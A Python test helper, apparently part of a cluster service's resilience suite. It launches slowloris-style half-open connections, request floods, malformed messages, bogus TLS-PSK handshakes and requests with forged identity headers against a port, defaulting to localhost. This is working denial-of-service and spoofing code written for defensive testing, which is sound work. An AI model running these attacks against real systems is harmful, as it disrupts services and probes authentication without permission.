"""What an unauthenticated peer can do to a port: `attacks.py KIND PORT COUNT [HOST [PATH]]`.

Writes "attacking" once the attack is under way, and goes on until its standard input ends. Needs
nothing of the job: no key, no name, no file. siege.py holds jobs against it, on every cluster.
"""

import itertools
import os
import select
import socket
import subprocess
import sys
import threading

HELLO_BEGUN = b"\x16\x03\x01\x01\x00"
# How a container's holder greets the driver of a Spark application: its name, then a nonce.
DRIVER_GREETED = b"muster-spark-1\n\x02c1"
# By what a request claims to be somebody's, or to come from where it does not.
CLAIMS = {"Cookie": "proxy-user=alice; muster=" + "0" * 64, "Authorization": "Bearer " + "0" * 64,
          "X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "localhost",
          "X-Forwarded-User": "alice", "X-Remote-User": "alice", "REMOTE_USER": "alice",
          "Via": "1.1 localhost", "Origin": "http://localhost", "X-HTTP-Method-Override": "DELETE"}
IDENTITIES = ("owner", "viewer", "agent:c1", "master:c1", "nobody")


def connect(address):
    peer = socket.socket()
    peer.settimeout(10)
    peer.connect(address)
    return peer


def hold(address, count, said):
    """Keeps `count` connections open that say so much and no more; opens anew what is closed."""
    held, poller = {}, select.poll()
    opened, started = 0, False
    while True:
        for _ in range(min(200, count - len(held))):
            peer = socket.socket()
            peer.setblocking(False)
            peer.connect_ex(address)
            held[peer.fileno()] = peer
            opened += 1
            poller.register(peer, select.POLLIN | select.POLLOUT | select.POLLHUP)
        for descriptor, event in poller.poll(20):
            if event & (select.POLLIN | select.POLLHUP | select.POLLERR):
                poller.unregister(descriptor)
                held.pop(descriptor).close()
            elif event & select.POLLOUT:
                poller.modify(descriptor, select.POLLIN | select.POLLHUP)
                if said:
                    held[descriptor].send(said)
        if not started and opened >= count:
            started = True
            yield


def silent(address, count):
    """Half-open connections that say nothing."""
    yield from hold(address, count, b"")


def half_proof(address, count):
    """Half-open connections that greet the driver of a Spark application and prove nothing."""
    yield from hold(address, count, DRIVER_GREETED)


def half_hello(address, count):
    """Half-open connections that begin a handshake and leave it at five bytes."""
    yield from hold(address, count, HELLO_BEGUN)


def half_request(address, count):
    """Half-open connections that begin a request of the page."""
    yield from hold(address, count, b"GET / HTTP/1.1\r\nX: ")


def pipelined(address, count):
    """Connections that send requests without an end, and read what comes."""
    request = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200

    def flood():
        while True:
            try:
                with connect(address) as peer:
                    reader = threading.Thread(target=drain, args=(peer,), daemon=True)
                    reader.start()
                    while True:
                        peer.sendall(request)
            except OSError:
                pass

    yield from in_threads(flood, min(count, 8))


def drain(peer):
    try:
        while peer.recv(1 << 20):
            pass
    except OSError:
        pass


def unread(address, count):
    """Connections that ask for much and read nothing of it."""
    held = []
    for _ in range(min(count, 200)):
        peer = connect(address)
        peer.setblocking(False)
        try:
            peer.send(b"GET /app.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500)
        except OSError:
            pass
        held.append(peer)
    yield
    threading.Event().wait()


def garbage(address, count):
    """Whole messages that no party of the job would send, one connection after the other."""
    texts = [b"\x16\x03\x01\x00\x40" + os.urandom(64), b"\x16\x03\x01\xff\xff" + b"a" * 70000,
             b"\0" * 5000, b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
             + (b"1;" + b"x" * 4000 + b"\r\na\r\n") * 20, b"GET /" + b"a" * 100000]

    def flood():
        while True:
            for text in texts:
                try:
                    with connect(address) as peer:
                        peer.sendall(text)
                except OSError:
                    pass

    yield from in_threads(flood, min(count, 8))


def wrong_key(address, count):
    """Whole handshakes under the names of the job's parties, with keys that nobody has; and proofs
    to the driver of a Spark application that nobody can have made."""
    host, port = address

    def handshakes():
        for name in itertools.cycle(IDENTITIES):
            subprocess.run(
                ["openssl", "s_client", "-connect", f"{host}:{port}", "-tls1_3", "-quiet",
                 "-ciphersuites", "TLS_AES_128_GCM_SHA256", "-psk_identity", name, "-psk",
                 os.urandom(32).hex()],
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                check=False)

    def proofs():
        while True:
            try:
                with connect(address) as peer:
                    peer.sendall(DRIVER_GREETED + os.urandom(32))
                    peer.recv(64)
                    peer.sendall(os.urandom(32))
                    peer.recv(64)
            except OSError:
                pass

    yield from in_threads(handshakes, min(count, 2))
    yield from in_threads(proofs, min(count, 2))


def forged(address, count, path="/api/status"):
    """Whole requests that claim to be somebody's, one after the other on many connections."""
    claims = "".join(f"{name}: {value}\r\n" for name, value in CLAIMS.items())
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n{claims}\r\n".encode()

    def ask():
        while True:
            try:
                with connect(address) as peer:
                    while True:
                        peer.sendall(request)
                        if not peer.recv(1 << 16):
                            break
            except OSError:
                pass

    yield from in_threads(ask, min(count, 8))


def in_threads(work, count):
    for _ in range(count):
        threading.Thread(target=work, daemon=True).start()
    yield


KINDS = {attack.__name__: attack
         for attack in (silent, half_hello, half_request, half_proof, pipelined, unread, garbage,
                        wrong_key, forged)}


def main(kind, port, count, host="127.0.0.1", *path):
    def ends_with_input():
        sys.stdin.read()
        os._exit(0)

    threading.Thread(target=ends_with_input, daemon=True).start()
    for times, _ in enumerate(KINDS[kind]((host, int(port)), int(count), *path)):
        if times == 0:
            print("attacking", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main(*sys.argv[1:])
